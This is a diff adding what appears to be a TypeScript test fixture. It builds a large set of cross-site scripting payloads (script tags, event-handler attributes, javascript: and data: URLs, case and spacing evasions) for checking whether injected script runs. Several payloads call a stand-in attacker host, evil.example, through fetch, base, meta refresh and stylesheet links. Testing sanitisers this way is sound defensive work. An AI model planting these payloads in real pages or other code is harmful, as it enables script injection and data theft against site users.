@@ -1,0 +1,57 @@
+/** What an attacker writes into a page or a search so that a script of his runs; each sets `window.hacked` if it does. */
+const ACTS = ['window.hacked=1', 'parent.hacked=1', 'top.hacked=1', "fetch('//evil.example/')", 'alert(1)']
+const FORMS: readonly ((act: string) => string)[] = [
+  act => `<script>${act}</script>`,
+  act => `"><script>${act}</script>`,
+  act => `'><script>${act}</script>`,
+  act => `</title><script>${act}</script>`,
+  act => `</textarea><script>${act}</script>`,
+  act => `</style><script>${act}</script>`,
+  act => `--><script>${act}</script>`,
+  act => `<img src=x onerror="${act}">`,
+  act => `"><img src=x onerror=${act}>`,
+  act => `<svg onload=${act}>`,
+  act => `<svg><script>${act}</script></svg>`,
+  act => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  act => `<math><mtext><img src=x onerror=${act}></mtext></math>`,
+  act => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  act => `<iframe src="javascript:${act}"></iframe>`,
+  act => `<a href="javascript:${act}">a</a>`,
+  act => `javascript:${act}`,
+  act => `JaVaScRiPt:${act}`,
+  act => `data:text/html,<script>${act}</script>`,
+  act => `" onmouseover="${act}`,
+  act => `" autofocus onfocus="${act}`,
+  act => `' onclick='${act}`,
+  act => `<body onload=${act}>`,
+  act => `<details open ontoggle=${act}>`,
+  act => `<video><source onerror=${act}></video>`,
+  act => `<object data="javascript:${act}"></object>`,
+  act => `<embed src="data:text/html,<script>${act}</script>">`,
+  act => `<form action="javascript:${act}"><button>a</button></form>`,
+  act => `<base href="//evil.example/"><p>${act}</p>`,
+  act => `<meta http-equiv="refresh" content="0;url=//evil.example/?${act}">`,
+  act => `<link rel="stylesheet" href="//evil.example/?${act}">`,
+  act => `<style>@import "//evil.example/?${act}"</style>`,
+  act => `<p style="background:url(//evil.example/?${act})">`,
+  act => `<template><script>${act}</script></template>`,
+  act => `<noscript><p title="</noscript><script>${act}</script>">`,
+  act => `<!--<img src="--><img src=x onerror=${act}//">`,
+  act => `<scr<script>ipt>${act}</script>`,
+  act => `\u2028<script>${act}</script>`,
+  act => `&lt;script&gt;${act}&lt;/script&gt;`,
+  act => `&#60;script&#62;${act}&#60;/script&#62;`,
+  act => `{{${act}}}\${${act}}`,
+  act => `[<img src=x onerror=${act}>]`,
+]
+/** The same with other letters or spaces where parsers differ. */
+const TWISTS: readonly ((payload: string) => string)[] = [
+  payload => payload,
+  payload => payload.replaceAll('script', 'ScRiPt'),
+  payload => payload.replaceAll(' ', '/'),
+  payload => payload.replaceAll('"', "'"),
+]
+
+export const payloads: readonly string[] = FORMS.flatMap(form =>
+  ACTS.flatMap(act => TWISTS.map(twist => twist(form(act)))),
+)
